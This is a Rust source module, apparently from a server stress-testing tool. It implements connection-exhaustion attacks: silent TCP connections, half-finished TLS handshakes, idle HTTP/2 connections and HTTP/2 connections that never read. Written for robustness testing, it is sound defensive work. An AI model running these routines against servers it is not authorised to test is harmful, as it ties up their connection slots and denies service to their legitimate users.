//! Connections that carry no call.

use std::future::pending;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};

use super::{
    attack::{Aim, Attack},
    frames::HELLO,
};

/// The first bytes of a TLS handshake: a record that says to be longer.
const HALF_HANDSHAKE: &[u8] = &[0x16, 3, 1, 2, 0, 1];

const WINDOW_BYTES: u32 = 64 << 10;

/// Opens connections and sends nothing.
#[must_use]
pub fn silent_connections(aim: &Aim, connections: usize) -> Attack {
    saying(aim, connections, b"")
}

/// Opens connections and stops in the middle of a TLS handshake.
#[must_use]
pub fn half_handshakes(aim: &Aim, connections: usize) -> Attack {
    saying(aim, connections, HALF_HANDSHAKE)
}

/// Opens connections, sends these bytes only, and waits until the server closes them.
fn saying(aim: &Aim, connections: usize, said: &'static [u8]) -> Attack {
    Attack::start(aim, connections, move |attacker| async move {
        let mut stream = attacker.connect().await?;
        stream.write_all(said).await?;
        let mut ignored = [0; 1024];
        while stream.read(&mut ignored).await? > 0 {}
        Ok(())
    })
}

/// Opens HTTP/2 connections that answer pings and make no calls.
#[must_use]
pub fn idle_connections(aim: &Aim, connections: usize) -> Attack {
    Attack::start(aim, connections, |attacker| async move {
        let (_client, connection) = attacker.handshake(WINDOW_BYTES).await?;
        Ok(connection.await?)
    })
}

/// Opens HTTP/2 connections that read nothing and answer nothing, not even GOAWAY.
#[must_use]
pub fn deaf_connections(aim: &Aim, connections: usize) -> Attack {
    Attack::start(aim, connections, |attacker| async move {
        let mut stream = attacker.connect().await?;
        stream.write_all(HELLO).await?;
        pending().await
    })
}
